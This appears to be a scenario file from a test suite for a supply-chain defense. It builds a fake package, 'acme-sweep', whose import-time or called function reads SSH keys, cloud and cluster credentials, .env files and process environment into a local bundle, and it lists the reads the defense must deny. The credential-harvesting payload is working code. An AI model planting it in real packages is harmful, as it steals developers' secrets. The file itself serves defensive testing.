"""A collector that takes every credential it finds and packs them into one file: the sweep of the worm lineage."""

from payloads import TOOLS, app, function
from scenario import Expected, Scenario
from support.homes import HOME_FILES, LEVELS
from support.wheels import Wheel

PATHS = [path for path, _content in HOME_FILES.values()]
SWEEP = f"""
import json, os, tempfile
found = {{}}
home, project = _home(), os.getcwd()
paths = [os.path.join(home, path) for path in {PATHS!r}]
paths += [os.path.join(project, *{LEVELS!r}[:level], ".env") for level in range({len(LEVELS) + 1})]
paths += ["/proc/self/environ"]
for path in paths:
    try:
        with open(path) as file:
            found[path] = file.read()
    except OSError:
        pass
with open(os.path.join(tempfile.gettempdir(), "bundle.json"), "w") as file:
    json.dump(found, file)
"""
PACKAGE = TOOLS + function("sweep", SWEEP)
KEPT = tuple(f"kept:{name}" for name in (*HOME_FILES, *(f"dotenv{level}" for level in range(6)), "variable"))
COMMON = {
    "models": ("litellm 1.82.8", "durabletask 1.4.1", "lightning 2.6.2"),
    "techniques": ("T1195.002", "T1552.001", "T1552.004", "T1005", "T1074.001"),
    "achieves": KEPT,
}


def denied(phase):
    """Return what must be refused, each by its own path."""
    patterns = ("*/.ssh/id_ed25519", "*/.aws/credentials", "*/.kube/config", "*/.netrc", "*/.docker/config.json")
    return (
        *(Expected("fs.read", "acme-sweep", phase, pattern) for pattern in patterns),
        Expected("fs.read", "acme-sweep", phase, "*/.env", targets=6),
        Expected("fs.read", "acme-sweep", phase, "/proc/*/environ"),
    )


SCENARIOS = (
    Scenario(
        row=23,
        variant="import",
        story="importing the package bundles the credentials of home, project and process",
        wheels=(Wheel("acme-sweep", "1.0.1", {"acme_sweep.py": PACKAGE + "sweep()\n"}),),
        app=app("import acme_sweep"),
        denied=denied("import"),
        smoke=True,
        **COMMON,
    ),
    Scenario(
        row=23,
        variant="call",
        story="a call to the package does the same, long after the import",
        wheels=(Wheel("acme-sweep", "1.0.1", {"acme_sweep.py": PACKAGE}),),
        app=app("import acme_sweep", "acme_sweep.sweep()"),
        denied=denied("run"),
        **COMMON,
    ),
)
